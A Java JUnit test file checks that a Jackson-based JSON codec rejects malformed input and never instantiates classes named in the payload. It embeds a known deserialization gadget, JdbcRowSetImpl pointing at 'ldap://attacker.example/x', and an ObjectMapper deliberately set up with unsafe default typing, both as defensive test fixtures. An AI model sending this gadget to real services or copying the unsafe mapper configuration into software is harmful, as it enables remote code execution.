package io.redweave.codec;

import static java.nio.charset.StandardCharsets.UTF_8;
import static org.assertj.core.api.Assertions.assertThat;

import com.fasterxml.jackson.databind.ObjectMapper;
import com.fasterxml.jackson.databind.jsontype.impl.LaissezFaireSubTypeValidator;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.ObjectOutputStream;
import java.time.Instant;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import java.util.Random;
import org.junit.jupiter.api.Test;

class JacksonCodecMalformedTest {

    record User(String id, String name, Instant createdAt) {
    }

    record Envelope(Object content) {
    }

    record Positive(int amount) {
        Positive {
            if (amount <= 0) {
                throw new IllegalArgumentException("amount must be positive");
            }
        }
    }

    private static final String GADGET = "{\"@class\":\"com.sun.rowset.JdbcRowSetImpl\","
            + "\"dataSourceName\":\"ldap://attacker.example/x\",\"autoCommit\":true}";

    private final Codec codec = new JacksonCodec();

    @Test
    void truncatedJson_isMalformed() {
        Decoded<User> decoded = codec.decode("{\"id\":\"1\",\"na".getBytes(UTF_8), User.class);

        assertThat(decoded).isInstanceOf(Decoded.Malformed.class);
        assertThat(((Decoded.Malformed<User>) decoded).reason()).contains(User.class.getTypeName());
    }

    @Test
    void wrongShape_isMalformed() {
        assertThat(codec.decode("[1,2,3]".getBytes(UTF_8), User.class).isMalformed()).isTrue();
        assertThat(codec.decode("{\"id\":{\"x\":1}}".getBytes(UTF_8), User.class).isMalformed()).isTrue();
        assertThat(codec.decode("\"abc\"".getBytes(UTF_8), Integer.class).isMalformed()).isTrue();
        assertThat(codec.decode("{\"a\":1}".getBytes(UTF_8), new TypeRef<List<User>>() {
        }).isMalformed()).isTrue();
    }

    @Test
    void emptyPayload_andUnquotedText_areMalformed() {
        assertThat(codec.decode(new byte[0], String.class).isMalformed()).isTrue();
        assertThat(codec.decode("abc".getBytes(UTF_8), String.class).isMalformed()).isTrue();
    }

    @Test
    void trailingContent_isMalformed() {
        assertThat(codec.decode("{\"id\":\"1\"}{\"id\":\"2\"}".getBytes(UTF_8), User.class).isMalformed()).isTrue();
        assertThat(codec.decode("1 2".getBytes(UTF_8), Integer.class).isMalformed()).isTrue();
    }

    @Test
    void constructorThatRejectsTheContent_isMalformed() {
        assertThat(codec.decode("{\"amount\":-5}".getBytes(UTF_8), Positive.class).isMalformed()).isTrue();
    }

    @Test
    void jdkSerializedBytes_areMalformed() throws IOException {
        ByteArrayOutputStream bytes = new ByteArrayOutputStream();
        try (ObjectOutputStream out = new ObjectOutputStream(bytes)) {
            out.writeObject(new ArrayList<>(List.of("a", "b")));
        }

        assertThat(codec.decode(bytes.toByteArray(), Object.class).isMalformed()).isTrue();
        assertThat(codec.decode(bytes.toByteArray(), List.class).isMalformed()).isTrue();
    }

    @Test
    void randomBytes_neverThrow() {
        Random random = new Random(42);
        int malformed = 0;
        for (int i = 0; i < 2_000; i++) {
            byte[] payload = new byte[1 + random.nextInt(64)];
            random.nextBytes(payload);
            if (codec.decode(payload, User.class).isMalformed()) {
                malformed++;
            }
            codec.decode(payload, Object.class);
        }
        assertThat(malformed).isEqualTo(2_000);
    }

    @Test
    void deeplyNestedPayload_isMalformed_notAStackOverflow() {
        String deep = "[".repeat(100_000) + "]".repeat(100_000);

        assertThat(codec.decode(deep.getBytes(UTF_8), Object.class).isMalformed()).isTrue();
    }

    @Test
    void classNameInPayload_decodedAsObject_isAPlainMap() {
        Decoded<Object> decoded = codec.decode(GADGET.getBytes(UTF_8), Object.class);

        assertThat(decoded).isInstanceOf(Decoded.Value.class);
        Object value = ((Decoded.Value<Object>) decoded).value();
        assertThat(value).isInstanceOf(Map.class);
        assertThat(((Map<?, ?>) value).get("@class")).isEqualTo("com.sun.rowset.JdbcRowSetImpl");
    }

    @Test
    void classNameInPayload_decodedAsMap_isAPlainMap() {
        Decoded<Map<String, Object>> decoded = codec.decode(GADGET.getBytes(UTF_8),
                new TypeRef<Map<String, Object>>() {
                });

        assertThat(((Decoded.Value<Map<String, Object>>) decoded).value())
                .containsEntry("autoCommit", true)
                .allSatisfy((key, value) -> assertThat(value).isInstanceOfAny(String.class, Boolean.class));
    }

    @Test
    void typeIdArrayOrNestedClassName_neverInstantiatesTheClass() {
        String asArray = "[\"com.sun.rowset.JdbcRowSetImpl\",{\"dataSourceName\":\"ldap://x\"}]";
        String nested = "{\"content\":" + GADGET + "}";

        Object array = ((Decoded.Value<Object>) codec.decode(asArray.getBytes(UTF_8), Object.class)).value();
        Envelope envelope = ((Decoded.Value<Envelope>) codec.decode(nested.getBytes(UTF_8), Envelope.class)).value();

        assertThat(array).isInstanceOf(List.class);
        assertThat(envelope.content()).isInstanceOf(Map.class);
    }

    @Test
    void suppliedMapperWithDefaultTyping_hasItDeactivated() {
        ObjectMapper unsafe = new ObjectMapper().activateDefaultTyping(LaissezFaireSubTypeValidator.instance,
                ObjectMapper.DefaultTyping.NON_FINAL);
        Codec codec = new JacksonCodec(unsafe);
        String typeIdArray = "[\"com.sun.rowset.JdbcRowSetImpl\",{\"dataSourceName\":\"ldap://x\"}]";

        Object value = ((Decoded.Value<Object>) codec.decode(typeIdArray.getBytes(UTF_8), Object.class)).value();

        assertThat(value).isInstanceOf(List.class);
        assertThat(new String(codec.encode(new Envelope(List.of("a"))), UTF_8)).isEqualTo("{\"content\":[\"a\"]}");
    }
}
